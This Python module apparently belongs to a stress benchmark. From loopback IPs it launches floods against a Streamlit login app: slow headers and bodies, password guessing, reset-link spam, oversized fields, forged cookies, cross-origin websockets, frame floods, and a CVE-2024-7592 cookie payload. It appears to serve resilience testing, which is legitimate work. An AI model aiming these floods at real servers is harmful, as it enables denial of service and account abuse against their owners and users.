"""The attackers of the siege: bounded floods from many loopback IP addresses.

`python -m bench.attacks ATTACK URL SECONDS` prints a line once all of them are at work. Each
coroutine of `ATTACKS` is one attacker at one IP address, until it is cancelled.
"""

import asyncio
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count, cycle
from urllib.parse import urlsplit

from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.WidgetStates_pb2 import WidgetState
from websockets.exceptions import WebSocketException

from bench.accounts import email
from bench.visitor import arrive, handshake

LEET = "p4$$w0rd!m0nk3y?7r0ub4d0ur&3xpl0r3r+$tr0ng3st#1!"  # the most expensive password to estimate
HUGE = "a" * 20_000_000
# Frames as a browser sends them, with a mask of zeroes (RFC 6455, 5.2).
PONG, EMPTY_MESSAGE = (bytes([first, 0x80, 0, 0, 0, 0]) for first in (0x8A, 0x82))
REFUSED = (WebSocketException, OSError, TimeoutError, RuntimeError)
RUN_UP = 3.0  # seconds of attack before the honest visitor comes


async def sign_up(url: str, ip: str) -> None:
    """Send the sign-up form repeatedly, with the password that is most expensive to estimate."""
    for number in count():
        attacker = await arrive(url, "auth=dead", "Sign up", "/sign-up", ip)
        values = {"Name": "Ada", "Email": f"a{number}@{ip}.example.org", "Password": LEET}
        await attacker.sees(*attacker.form("Sign up", **values))
        await attacker.socket.close()


async def wrong_password(url: str, ip: str) -> None:
    """Guess passwords, also long after the network's limit is used up."""
    attacker = await arrive(url, "auth=dead", "Log in", "/log-in", ip)
    for number in count():
        await attacker.sees(*attacker.form("Log in", Email=email(7), Password=f"guess {number}"))


async def forgot_password(url: str, ip: str) -> None:
    """Request reset links for other people's emails."""
    attacker = await arrive(url, "auth=dead", "link", "/forgot-password", ip)
    for number in count():
        await attacker.sees(*attacker.form("Send the link", Email=email(number % 50)))


async def huge_values(url: str, ip: str) -> None:
    """Send 20 MB in a field."""
    while True:
        attacker = await arrive(url, "auth=dead", "Sign up", "/sign-up", ip)
        with suppress(WebSocketException):  # closed for its size
            values = {"Name": HUGE, "Email": "a@example.org", "Password": LEET}
            await attacker.sees(*attacker.form("Sign up", **values))
        await attacker.socket.close()


async def idle_sockets(url: str, ip: str) -> None:
    """Open websockets and leave them."""
    held = []
    while True:
        held.append(await handshake(url, ip=ip))
        await asyncio.sleep(0.05)  # a flood that a laptop sends


async def open_and_close(url: str, ip: str) -> None:
    """Open a page's connection, run the script once, and disconnect."""
    while True:
        attacker = await arrive(url, "auth=dead", "Log in", "/", ip)
        await attacker.socket.close()


async def reruns(url: str, ip: str) -> None:
    """Rerun the script as soon as it has ended, without ever logging in."""
    attacker = await arrive(url, "auth=dead", "Log in", "/", ip)
    while True:
        await attacker.run()


async def foreign_origin(url: str, ip: str) -> None:
    """Open websockets from a page of another site."""
    for number in count():
        with suppress(WebSocketException):
            socket = await handshake(url, ip=ip, origin=f"https://evil{number}.example")
            await socket.close()


async def clear_cache(url: str, ip: str) -> None:
    """Ask the process to drop its caches."""
    socket = await handshake(url, ip=ip)
    while True:
        await socket.send(BackMsg(clear_cache=True).SerializeToString())
        await asyncio.sleep(0.01)


async def uploads(url: str, ip: str) -> None:
    """Upload files to sessions that may or may not exist."""
    body = b"x" * 1_000_000
    for number in count():
        await request(url, ip, f"PUT /_stcore/upload_file/{number}/{number}", body)


async def slow_headers(url: str, ip: str) -> None:
    """Start a request and never finish it."""
    await slowly(url, ip, "GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ")


async def slow_body(url: str, ip: str) -> None:
    """Announce a body and never send it."""
    head = "POST /auth/session HTTP/1.1\r\nHost: {host}\r\nSec-Fetch-Site: same-origin\r\n"
    await slowly(url, ip, head + "Content-Length: 500\r\n\r\n")


async def forged_cookies(url: str, ip: str) -> None:
    """Load the page with forged tokens."""
    for number in count():
        token = ".".join((f"{number:x}" * 600)[:600] for _ in range(3))
        await request(url, ip, "GET /", cookie=f"auth={token}")


async def fragments(url: str, ip: str) -> None:
    """Ask for parts of the page that are not on it: such a run never begins, so it never ends."""
    attacker = await arrive(url, "auth=dead", "Log in", "/", ip)
    message = BackMsg()
    message.rerun_script.fragment_id = "0" * 32
    while True:
        await attacker.socket.send(message.SerializeToString())
        await asyncio.sleep(0.09)


async def empty_frames(url: str, ip: str) -> None:
    """Send a megabyte of pongs that nobody asked for, again and again."""
    socket = await handshake(url, ip=ip)
    while not socket.transport.is_closing():
        socket.transport.write(PONG * 170_000)
        await asyncio.sleep(0.1)


async def messages_left_behind(url: str, ip: str) -> None:
    """Come back as a tab of one's own naming, send 43,000 empty messages at once, and leave."""
    for number in count():
        socket = await handshake(url, ip=ip, tab=f"{ip}-{number}")
        socket.transport.write(EMPTY_MESSAGE * 43_000)
        await asyncio.sleep(0.2)
        await socket.close()


async def unread_answers(url: str, ip: str) -> None:
    """Ask for one run after the other, and read nothing of what they send."""
    attacker = await arrive(url, "auth=dead", "Log in", "/", ip)
    attacker.socket.transport.pause_reading()
    message = BackMsg()
    message.rerun_script.context_info.url = url
    while not attacker.socket.transport.is_closing():
        await attacker.socket.send(message.SerializeToString())
        await asyncio.sleep(0.05)


async def wrong_kinds(url: str, ip: str) -> None:
    """Send the button's state as a text and the fields' as numbers."""
    attacker = await arrive(url, "auth=dead", "Log in", "/log-in", ip)
    states = [WidgetState(id=each, double_value=1) for each in attacker.widgets.values()]
    while True:
        await attacker.sees(*states)


async def tiny_chunks(url: str, ip: str) -> None:
    """Send a body in chunks of one byte."""
    head = "POST /auth/session HTTP/1.1\r\nHost: {host}\r\nSec-Fetch-Site: same-origin\r\n"
    writer = await begin(url, ip, head + "Transfer-Encoding: chunked\r\n\r\n")
    while not writer.transport.is_closing():
        writer.write(b"1\r\na\r\n" * 20_000)
        await writer.drain()


async def escaped_cookies(url: str, ip: str) -> None:
    """Send a cookie of escapes, which Python took quadratic time to read (CVE-2024-7592)."""
    while True:
        await request(url, ip, "GET /", cookie='x="' + "\\1" * 30_000 + '"')


async def long_heads(url: str, ip: str) -> None:
    """Send 60 KB of an address, and of headers."""
    while True:
        await request(url, ip, "GET /?" + "%41" * 20_000)
        await request(url, ip, "GET /", cookie="a" + "\r\nb:" * 15_000)


Attack = Callable[[str, str], Awaitable[None]]
# Each attack, and how many attackers at how many IP addresses.
ATTACKS: dict[str, tuple[Attack, int, int]] = {
    "sign-up forms, dearest password": (sign_up, 30, 30),
    "guesses over the limit": (wrong_password, 40, 4),
    "forgotten passwords": (forgot_password, 10, 10),
    "20 MB in a field": (huge_values, 4, 4),
    "idle websockets": (idle_sockets, 10, 10),
    "pages opened and closed": (open_and_close, 4, 4),
    "pages that rerun in a loop": (reruns, 30, 1),
    "websockets of other sites": (foreign_origin, 10, 10),
    "clear_cache": (clear_cache, 10, 10),
    "uploads without a log-in": (uploads, 4, 4),
    "slow headers": (slow_headers, 200, 20),
    "slow bodies": (slow_body, 200, 20),
    "forged cookies": (forged_cookies, 4, 4),
    "fragments that no page has": (fragments, 10, 10),
    "frames without a message": (empty_frames, 10, 10),
    "messages that nobody waits for": (messages_left_behind, 4, 4),
    "pages that read no answer": (unread_answers, 10, 10),
    "fields with another kind of value": (wrong_kinds, 4, 4),
    "bodies in chunks of a byte": (tiny_chunks, 20, 20),
    "cookies full of escapes": (escaped_cookies, 4, 4),
    "long addresses and many headers": (long_heads, 10, 10),
}


async def slowly(url: str, ip: str, head: str) -> None:
    """Send *head*, then a byte now and then for as long as the server listens; then start over."""
    while True:
        writer = await begin(url, ip, head)
        with suppress(OSError):
            while not writer.transport.is_closing():
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(1)
        writer.close()


async def begin(url: str, ip: str, head: str) -> asyncio.StreamWriter:
    """Connect from the loopback IP address *ip* and send *head*, with the server's name in it."""
    host, port = urlsplit(url).hostname, urlsplit(url).port
    _, writer = await asyncio.open_connection(host, port, local_addr=(ip, 0))
    writer.write(head.format(host=f"{host}:{port}").encode())
    return writer


async def request(url: str, ip: str, line: str, body: bytes = b"", cookie: str = "") -> None:
    """Send one request from the loopback IP address *ip* and read the start of the response."""
    host, port = urlsplit(url).hostname, urlsplit(url).port
    reader, writer = await asyncio.open_connection(host, port, local_addr=(ip, 0))
    head = (
        f"{line} HTTP/1.1\r\nHost: {host}:{port}\r\nOrigin: {url}\r\n"
        f"Sec-Fetch-Site: same-origin\r\nCookie: {cookie}\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    try:
        writer.write(head.encode() + body)
        await reader.read(1024)
    finally:
        writer.close()


async def besiege(name: str, url: str, seconds: float) -> None:
    """Run the attackers of *name* for *seconds*; one that is refused comes again."""
    attack, attackers, addresses = ATTACKS[name]

    async def attacker(ip: str) -> None:
        while True:
            with suppress(*REFUSED):
                await attack(url, ip)
            await asyncio.sleep(0.2)

    ips = cycle(f"127.0.1.{number + 1}" for number in range(addresses))
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for _ in range(attackers):
                group.create_task(attacker(next(ips)))
            await asyncio.sleep(RUN_UP)
            print("begun", flush=True)


if __name__ == "__main__":
    asyncio.run(besiege(sys.argv[1], sys.argv[2], float(sys.argv[3])))
